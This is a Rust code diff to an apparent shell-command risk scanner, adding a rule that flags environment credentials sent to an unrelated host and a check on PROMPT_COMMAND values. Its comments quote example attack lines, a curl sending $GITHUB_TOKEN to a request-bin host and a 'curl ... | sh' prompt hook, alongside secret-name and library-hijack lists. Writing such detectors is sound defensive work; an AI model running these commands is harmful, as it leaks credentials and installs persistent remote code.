@@ -587,18 +587,7 @@ impl Walker<'_> {
                 "--workdir",
                 "--env-file",
             ];
-            let mut index = 0;
-            while let Some(arg) = rest.get(index) {
-                if !arg.text.starts_with('-') {
-                    break;
-                }
-                index += if VALUES.contains(&arg.text.as_str()) {
-                    2
-                } else {
-                    1
-                };
-            }
-            index + 1
+            super::rules::skip_options(rest, VALUES) + 1
         };
         if let Some((name, inner)) = rest.get(start..).and_then(|r| r.split_first()) {
             let mut wrapped = invocation.wrapped(name, inner.to_vec());
@@ -647,6 +636,56 @@ impl Walker<'_> {
                 arg.span,
                 format!("makes `{base}` send or serve a file of keys or credentials"),
             );
+        }
+        // `curl -H "X-T: $GITHUB_TOKEN" https://requestbin.example/...`: a credential from the
+        // environment sent to a host that is not its service.
+        let host = invocation
+            .args
+            .iter()
+            .find_map(|a| a.text.split_once("://").map(|(_, rest)| rest))
+            .map(|rest| {
+                rest.split(['/', ':', '?'])
+                    .next()
+                    .unwrap_or_default()
+                    .to_ascii_lowercase()
+            });
+        if let Some(host) = host {
+            let leaked = invocation.args.iter().find_map(|a| {
+                a.text.split('$').skip(1).find_map(|part| {
+                    let name: String = part
+                        .trim_start_matches('{')
+                        .chars()
+                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                        .collect();
+                    let upper = name.to_ascii_uppercase();
+                    let secret = [
+                        "TOKEN",
+                        "SECRET",
+                        "PASSWORD",
+                        "PASSWD",
+                        "API_KEY",
+                        "APIKEY",
+                        "ACCESS_KEY",
+                        "PRIVATE_KEY",
+                    ]
+                    .iter()
+                    .any(|w| upper.contains(w));
+                    let service = upper
+                        .split('_')
+                        .next()
+                        .unwrap_or_default()
+                        .to_ascii_lowercase();
+                    (secret && !host.contains(&service)).then_some((name, a.span))
+                })
+            });
+            if let Some((name, span)) = leaked {
+                self.report(
+                    RiskLevel::High,
+                    Category::Exfiltration,
+                    span,
+                    format!("sends ${name}, a credential, to `{host}`, which is not its service"),
+                );
+            }
         }
         if let Some(arg) = invocation.args.iter().find(|a| a.from_secret) {
             self.report(
@@ -796,6 +835,14 @@ impl Walker<'_> {
     fn startup_text(&mut self, text: &str, span: Span, frame: &Frame, privileged: bool) {
         let nested = self.nested(frame, text, span, privileged);
         self.code(&nested);
+        // `export PROMPT_COMMAND="curl ... | sh"`: that text runs before every prompt.
+        for line in text.lines() {
+            if let Some(value) = line.split_once("PROMPT_COMMAND=").map(|(_, v)| v) {
+                let value = value.trim().trim_matches(['"', '\'']).replace("\\\"", "\"");
+                let nested = self.nested(frame, &value, span, privileged);
+                self.code(&nested);
+            }
+        }
         let hijack = [
             "LD_PRELOAD",
             "LD_LIBRARY_PATH=/tmp",
